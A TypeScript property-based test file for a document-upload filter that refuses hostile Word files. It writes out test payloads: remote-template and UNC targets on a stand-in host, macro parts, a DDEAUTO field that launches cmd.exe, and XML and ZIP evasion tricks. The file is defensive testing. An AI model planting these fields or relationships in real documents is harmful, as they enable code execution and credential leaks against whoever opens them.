import fc from 'fast-check'
import { expect, test } from 'vitest'
import { type RefusalReason, refusals } from '#domain/records/refusals.ts'
import { docxWith, WORD } from '#tests/support/craftedFiles.ts'
import { docxSpelled, OFFICE, type Relationship, STRICT } from '#tests/support/evasiveDocx.ts'
import { type Choose, spelling } from '#tests/support/evasivePdf.ts'
import { runs } from '#tests/support/properties.ts'
import { taken } from '#tests/support/takenFile.ts'

const hostileRelationships: [Relationship, RefusalReason][] = [
  ...[OFFICE, STRICT].flatMap((space): [Relationship, RefusalReason][] =>
    ['attachedTemplate', 'oleObject', 'frame', 'subDocument', 'package'].map((kind) => [
      { type: `${space}${kind}`, target: 'https://evil.test/a.dotm', isExternal: true },
      'remote',
    ]),
  ),
  ...[
    'HTTP://evil.test/a',
    'file://evil.test/a.dotm',
    'file:///\\\\evil.test\\a.dotm',
    'file:////evil.test/a.dotm',
    '\\\\evil.test\\a.dotm',
    '//evil.test/a.dotm',
    '%68ttps://evil.test/a',
    'ht\ttps://evil.test/a',
    'mhtml:https://evil.test/a',
  ].map((target): [Relationship, RefusalReason] => [
    { type: `${OFFICE}attachedTemplate`, target, isExternal: true },
    'remote',
  ]),
  [{ type: 'http://schemas.microsoft.com/office/2006/relationships/vbaProject', target: 'a.bin' }, 'macros'],
  [{ type: `${OFFICE}image`, target: 'file://evil.test/a.png', isExternal: true }, 'remote'],
  [{ type: `${OFFICE}mailMergeSource`, target: '\\\\evil.test\\a.csv', isExternal: true }, 'remote'],
  [{ type: `${OFFICE}oleObject`, target: '\\??\\UNC\\evil.test\\a', isExternal: true }, 'remote'],
  [{ type: `${OFFICE}aFChunk`, target: 'media/letter.rtf' }, 'embedded'],
  [{ type: `${OFFICE}oleObject`, target: 'media/picture.bin' }, 'embedded'],
  [{ type: `${OFFICE}package`, target: 'media/letter.docx' }, 'embedded'],
  [{ type: `${OFFICE}control`, target: 'media/control.xml' }, 'embedded'],
]

const harmlessRelationships: Relationship[] = [
  { type: `${OFFICE}hyperlink`, target: 'https://clinic.test/', isExternal: true },
  { type: `${OFFICE}image`, target: 'media/image1.png' },
  { type: `${OFFICE}attachedTemplate`, target: 'file:///C:\\Users\\Sam\\Normal.dotm', isExternal: true },
  { type: `${OFFICE}attachedTemplate`, target: 'Normal.dotm', isExternal: true },
  { type: `${OFFICE}package`, target: '../embeddings/figures.xlsx' },
]

test('a forbidden Word document is rejected, in whichever way it is written', () =>
  fc.assert(
    fc.asyncProperty(fc.constantFrom(...hostileRelationships), spelling, async ([one, reason], choose) => {
      await expect(taken(await docxSpelled(one, choose))).rejects.toThrow(refusals[reason])
    }),
    { numRuns: runs(200) },
  ))

test('a harmless Word document is stored unchanged in any encoding', () =>
  fc.assert(
    fc.asyncProperty(fc.constantFrom(...harmlessRelationships), spelling, async (one, choose) => {
      const docx = await docxSpelled(one, choose)
      expect(await taken(docx)).toMatchObject({ removed: [], kept: docx })
    }),
    { numRuns: runs(100) },
  ))

const remote = `Type="${OFFICE}attachedTemplate" TargetMode="External" Target`
const settings = (xml: string | Buffer) => docxWith({ 'word/_rels/settings.xml.rels': xml })
const related = (attributes: string) => `<Relationships><Relationship Id="a" ${attributes}/></Relationships>`
const typed = (types: string) => docxWith({}, { types })

const evasiveDocuments: [string, Buffer, RefusalReason][] = [
  ['an escaped target', await settings(related(`${remote}="&#104;ttps://evil.test/a"`)), 'remote'],
  [
    'a target in UTF-16',
    await settings(Buffer.from(`\ufeff${related(`${remote}="https://evil.test/a"`)}`, 'utf16le')),
    'remote',
  ],
  [
    'a greater-than sign in front of its target',
    await settings(related(`Alt=">" ${remote}="https://evil.test/a"`)),
    'remote',
  ],
  [
    'a prefix',
    await settings(related(`${remote}="https://evil.test/a"`).replaceAll(/(<\/?)R/g, '$1p:R')),
    'remote',
  ],
  [
    'custom entities',
    await settings(`<!DOCTYPE a [<!ENTITY b "https:">]>${related(`${remote}="&b;//evil.test"`)}`),
    'disguised',
  ],
  [
    'an unusual encoding',
    await settings(`<?xml version="1.0" encoding="UTF-7"?>${related(`${remote}="+AGg-"`)}`),
    'disguised',
  ],
  [
    'an encoding that is not its own',
    await settings(Buffer.from(`\ufeff<?xml version="1.0" encoding="utf-8"?><a/>`, 'utf16le')),
    'disguised',
  ],
  [
    'XML that is not well-formed',
    await settings(`<Relationships><Relationship ${remote}="https://evil.test/a">`),
    'broken',
  ],
  [
    'escaped kinds of parts',
    await typed('<Override ContentType="application/vnd.ms-office.&#118;baProject"/>'),
    'macros',
  ],
  [
    'two parts of one name',
    await docxWith({ 'word/settings.xml': '<a/>', 'word/Settings.xml': '<b/>' }),
    'disguised',
  ],
  ['a part in pieces', await docxWith({ 'word/settings.xml/[0].piece': '<a/>' }), 'disguised'],
  ['something between its parts', hiddenBetweenParts(await docxWith({})), 'disguised'],
  ['another name in front of a part', renamedInPlace(await docxWith({ 'word/a.bin': 'x' })), 'disguised'],
  [
    'a workbook whose macros have another name',
    await docxWith({
      'word/embeddings/a.xlsx': await typed('<Override ContentType="application/vnd.ms-office.vbaProject"/>'),
    }),
    'macros',
  ],
]

test.for(evasiveDocuments)('a Word document with %s is refused', async ([, content, reason]) => {
  await expect(taken(content)).rejects.toThrow(refusals[reason])
})

/** A second local part that the directory does not name. */
function hiddenBetweenParts(docx: Buffer): Buffer {
  const directory = docx.readUInt32LE(docx.length - 6)
  const first = docx.indexOf('PK\u0003\u0004', 4)
  const hidden = docx.subarray(0, first)
  const end = Buffer.from(docx.subarray(-22))
  end.writeUInt32LE(directory + hidden.length, 16)
  return Buffer.concat([docx.subarray(0, directory), hidden, docx.subarray(directory, -22), end])
}

/** A part with one name in its local header and another one in the directory. */
function renamedInPlace(docx: Buffer): Buffer {
  const changed = Buffer.from(docx)
  changed.write('word/b.bin', changed.indexOf('word/a.bin'))
  return changed
}

const STRICT_WORD = 'http://purl.oclc.org/ooxml/wordprocessingml/main'

/** A document with this body, under the usual namespace prefix. */
const story = (body: string, space = WORD) =>
  `<w:document xmlns:w="${space}" xmlns:x="urn:x" xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006"><w:p>${body}</w:p></w:document>`
const run = (...texts: string[]) =>
  texts.map((text) => `<w:r><w:instrText>${text.replaceAll('"', '&quot;')}</w:instrText></w:r>`).join('')
const mark = (type: string) => `<w:r><w:fldChar w:fldCharType="${type}"/></w:r>`
const field = (code: string) => `${mark('begin')}${code}${mark('separate')}<w:t>x</w:t>${mark('end')}`

const hostileInstructions = [
  'DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"',
  'dde excel a b',
  'LINK Excel.Sheet.8 "C:\\\\a.xlsx" a',
  'IMPORT a.png',
  'DATABASE \\d "C:\\\\a.mdb"',
  'INCLUDEPICTURE "https://evil.test/a.png" \\d',
  'INCLUDETEXT \\\\\\\\evil\\\\a.docx',
  'RD "file://evil.test/a.docx"',
  'MACROBUTTON https://evil.test/a Click',
]
const harmlessInstructions = [
  'HYPERLINK "https://clinic.test/"',
  'TOC \\o "1-3" \\h',
  'PAGE',
  'REF _Ref1 \\h',
  'MERGEFIELD Name \\* MERGEFORMAT',
  'INCLUDEPICTURE "logo.png" \\d',
  'MACROBUTTON NoMacro [Click here]',
  'QUOTE "DDEAUTO cmd"',
]

/** The instruction in one of the elements and attributes that can contain it, split anywhere. */
function fieldSpelled(instruction: string, choose: Choose): string {
  if (choose(4) === 3) return `<w:fldSimple w:instr="${instruction.replaceAll('"', '&quot;')}"/>`
  const cut = choose(instruction.length)
  const texts = [instruction.slice(0, cut), instruction.slice(cut)].flatMap((text) =>
    choose(2) === 1 && text.length > 1 ? [text.slice(0, 1), text.slice(1)] : [text],
  )
  const between = ['', '<w:proofErr/>', '<x:instrText>no</x:instrText>', '<w:bookmarkStart/>'][
    choose(4)
  ] as string
  const code = texts.map((text) => run(text)).join(between)
  return [
    field(code),
    `${mark('begin')}${code}${mark('end')}`,
    `${field(run('PAGE'))}${mark('begin')}${code}`,
  ][choose(3)] as string
}

const storyParts = [
  'document',
  'header1',
  'footer2',
  'footnotes',
  'endnotes',
  'comments',
  'glossary/document',
  '../other',
]

const docxWithField = (instruction: string, choose: Choose): Promise<Buffer> => {
  const xml = story(fieldSpelled(instruction, choose), choose(3) === 2 ? STRICT_WORD : WORD)
  const part = storyParts[choose(storyParts.length)] as string
  const bytes = choose(3) === 2 ? Buffer.from(`\ufeff${xml}`, 'utf16le') : Buffer.from(xml)
  return docxWith({ [part === '../other' ? 'other/part.bin' : `word/${part}.xml`]: bytes })
}

test('a field that reaches other programs or files is rejected, in whichever way it is split', () =>
  fc.assert(
    fc.asyncProperty(fc.constantFrom(...hostileInstructions), spelling, async (instruction, choose) => {
      await expect(taken(await docxWithField(instruction, choose))).rejects.toThrow(refusals.fields)
    }),
    { numRuns: runs(200) },
  ))

test('a harmless field is stored unchanged, however it is split', () =>
  fc.assert(
    fc.asyncProperty(fc.constantFrom(...harmlessInstructions), spelling, async (instruction, choose) => {
      const docx = await docxWithField(instruction, choose)
      expect(await taken(docx)).toMatchObject({ removed: [], kept: docx })
    }),
    { numRuns: runs(100) },
  ))

const alternate = (inside: string) =>
  `<mc:AlternateContent><mc:Choice>${inside}</mc:Choice></mc:AlternateContent>`
const evasiveFields: [string, string, RefusalReason][] = [
  ['plain text in its code', field(`${run('DD')}<w:r><w:t>x</w:t></w:r>${run('E a b')}`), 'fields'],
  ['its keyword in plain text', field('<w:r><w:t>DDE a b</w:t></w:r>'), 'fields'],
  ['deleted code', field('<w:r><w:delInstrText>DDE a b</w:delInstrText></w:r>'), 'fields'],
  ['a tab behind its keyword', field(`${run('DDE')}<w:r><w:tab/></w:r>${run('a')}`), 'fields'],
  ['CDATA', field('<w:r><w:instrText>D<![CDATA[DE a]]></w:instrText></w:r>'), 'fields'],
  [
    'a text box inside its code',
    field(`${run('DD')}<w:txbxContent>${run('x')}${field(run('PAGE'))}</w:txbxContent>${run('E a')}`),
    'fields',
  ],
  ['a target from another field', field(`${run('INCLUDETEXT ')}${field(run('REF a'))}`), 'fields'],
  ['a keyword from another field', field(`${field(run('QUOTE 68 68 69'))}${run(' a b')}`), 'fields'],
  ['code in alternatives', field(`${run('D')}${alternate(run('D'))}${run('E a')}`), 'disguised'],
  ['a padded target', field(run(`INCLUDETEXT ${' '.repeat(20_000)}https://evil.test`)), 'fields'],
  ['a thousand fields inside of each other', mark('begin').repeat(1000), 'fields'],
]

test.for(evasiveFields)('a field with %s is refused', async ([, body, reason]) => {
  const docx = await docxWith({ 'word/document.xml': story(body) })
  await expect(taken(docx)).rejects.toThrow(refusals[reason])
})

test('a formula, nested fields and an SVG image are accepted', async () => {
  const body =
    field(`${run('=(')}${field(run('PAGE'))}${run('-1)')}`) + field(`${run('IF ')}${field(run('PAGE'))}`)
  const svg = '<!DOCTYPE svg PUBLIC "a" "b"><svg><text>DDE'
  const docx = await docxWith({ 'word/document.xml': story(body), 'word/media/image1.svg': svg })
  expect(await taken(docx)).toMatchObject({ removed: [], kept: docx })
})
